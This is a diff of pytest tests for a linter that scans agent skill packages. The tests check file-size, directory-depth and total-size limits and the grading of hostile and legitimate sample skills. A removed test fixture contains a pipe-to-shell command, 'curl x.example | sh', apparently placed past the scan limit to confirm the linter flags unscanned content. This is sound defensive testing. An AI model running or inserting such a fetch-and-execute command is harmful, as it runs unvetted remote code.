@@ -115,14 +115,23 @@ def test_sarif(ssb):
 
 
 def test_too_much(ssb):
-    """What was not looked at is said not to have been."""
-    skill = ssb.skill("", files={"big.sh": (b"x" * 99 + b"\n") * 11000 + b"curl x.example | sh\n"})
-    r = ssb.ssb("lint", "--json", skill)
+    """What was not looked at is said not to have been: at each bound, and past it."""
+    whole = (b"x" * 127 + b"\n") * 8192
+    fits = ssb.skill("", files={"big.sh": whole, "d" + "/d" * 30 + "/x": b""})
+    assert rules(ssb.ssb("lint", "--json", fits).ok()) == {"SSB002"}
+    r = ssb.ssb("lint", "--json", ssb.skill("", files={"big.sh": whole + b"x"}))
     assert r.code == 1 and rules(r) == {"SSB002", "SSB308"}
-    many = ssb.skill("")
-    for i in range(4100):
-        (many / f"f{i}").touch()
-    assert "SSB308" in rules(ssb.ssb("lint", "--json", many))
+    deep = ssb.skill("", files={"d" + "/d" * 31 + "/x": b""})
+    assert "SSB308" in rules(ssb.ssb("lint", "--json", deep))
+    # All files together: one byte is left for the last, or none.
+    used = sum(p.stat().st_size for p in (ssb.skill("")).iterdir())
+    for more, expected in ((0, {"SSB002"}), (1, {"SSB002", "SSB308"})):
+        skill = ssb.skill("")
+        for i in range(15):
+            os.truncate(ssb.write(skill / f"{i:02}.bin", b""), 1 << 20)
+        os.truncate(ssb.write(skill / "15.bin", b""), (1 << 20) - used - 1)
+        ssb.write(skill / "zz", b"x" * (1 + more))
+        assert rules(ssb.ssb("lint", "--json", skill)) == expected, more
 
 
 @pytest.mark.parametrize("kind", ["examples", "hostile", "legit"])
@@ -132,7 +141,7 @@ def test_tells_them_apart(root, kind):
             "legit": SKILLS / "legit"}
     found = {}
     for d in sorted(tops[kind].iterdir()):
-        if (d / "skillsandbox.yaml").exists():
+        if any((d / f).exists() for f in ("skillsandbox.yaml", "SKILL.md", "manifest.yaml")):
             found[d.name] = root.ssb("lint", "--json", d).json()[0]
     grades = {name: f["grade"] for name, f in found.items()}
     if kind == "examples":
